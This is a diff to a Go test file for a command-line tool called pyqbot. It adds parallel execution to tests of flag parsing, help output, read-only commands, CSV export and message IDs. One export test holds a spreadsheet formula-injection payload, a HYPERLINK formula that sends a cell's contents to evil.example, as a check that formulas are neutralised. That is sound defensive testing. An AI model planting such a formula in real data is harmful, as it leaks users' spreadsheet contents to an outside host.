@@ -34,6 +34,7 @@ func emptyDB(t *testing.T) string {
 // subcommand (issue 12 item 8). Each row was misread by the standard flag package's
 // stop-at-the-first-argument parsing.
 func TestFlagsAnywhere(t *testing.T) {
+	t.Parallel()
 	db := emptyDB(t)
 	dir := t.TempDir()
 	fresh := filepath.Join(dir, "fresh.db")
@@ -101,6 +102,7 @@ func mustStat(t *testing.T, path string) {
 // Every command, and every content subcommand, prints its own usage for `pyqbot help X` and for
 // `pyqbot X --help` (item 10: `help help` printed run's usage, `help content` the overview).
 func TestHelpForEveryCommand(t *testing.T) {
+	t.Parallel()
 	for _, cmd := range [][]string{{"run"}, {"console"}, {"content"}, {"content", "lint"}, {"content", "export"}, {"content", "stats"},
 		{"backup"}, {"export"}, {"healthcheck"}, {"version"}, {"help"}} {
 		want := "Usage: pyqbot " + strings.Join(cmd, " ")
@@ -122,6 +124,7 @@ func firstLine(s string) string { line, _, _ := strings.Cut(s, "\n"); return lin
 // "content" as --no-run's value. Every boolean flag any command defines is in switchFlags:
 // PrintDefaults shows a boolean as "-name" with no type after it.
 func TestSwitchFlagsAreComplete(t *testing.T) {
+	t.Parallel()
 	flagLine := regexp.MustCompile(`(?m)^  -(\S+)(?: (\S+))?$`)
 	seen := 0
 	for _, cmd := range [][]string{{"run"}, {"console"}, {"content", "lint"}, {"content", "export"}, {"content", "stats"},
@@ -143,6 +146,7 @@ func TestSwitchFlagsAreComplete(t *testing.T) {
 // empty missing.db and "backed it up"; `export --db typo.db` printed a header. Driven through the
 // built binary, as a user would type them.
 func TestReadCommandsNeverCreateADatabase(t *testing.T) {
+	t.Parallel()
 	dir := t.TempDir()
 	missing, out := filepath.Join(dir, "missing.db"), filepath.Join(dir, "out.db")
 	for _, args := range [][]string{
@@ -174,6 +178,7 @@ func TestReadCommandsNeverCreateADatabase(t *testing.T) {
 // --format is case-insensitive, and CSV cells a spreadsheet would run as formulas are neutralised
 // (items 16 and 20).
 func TestExportJSONArrayAndSafeCSV(t *testing.T) {
+	t.Parallel()
 	db := filepath.Join(t.TempDir(), "x.db")
 	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"see the docs for this")`
 	code, _, stderr := run(t, "/pyq filter kinds design\n/pyq today\n/as @ann\n/pyq answer "+hyperlink+"\n/as -bo\n/pyq answer a process pool for the CPU part\n", "console", "--db", db)
@@ -214,6 +219,7 @@ func TestExportJSONArrayAndSafeCSV(t *testing.T) {
 // Terminal message ids stay unique across restarts against one database (item 19): they restarted
 // at m1, so the reveal posted after a restart had the id of the question it revealed.
 func TestConsoleMessageIDsUniqueAcrossRestarts(t *testing.T) {
+	t.Parallel()
 	db := filepath.Join(t.TempDir(), "x.db")
 	ids := regexp.MustCompile(`(?m)^\[#general(?: › thread of (\S+))?\] message (\S+)$`)
 	seen := map[string]string{}
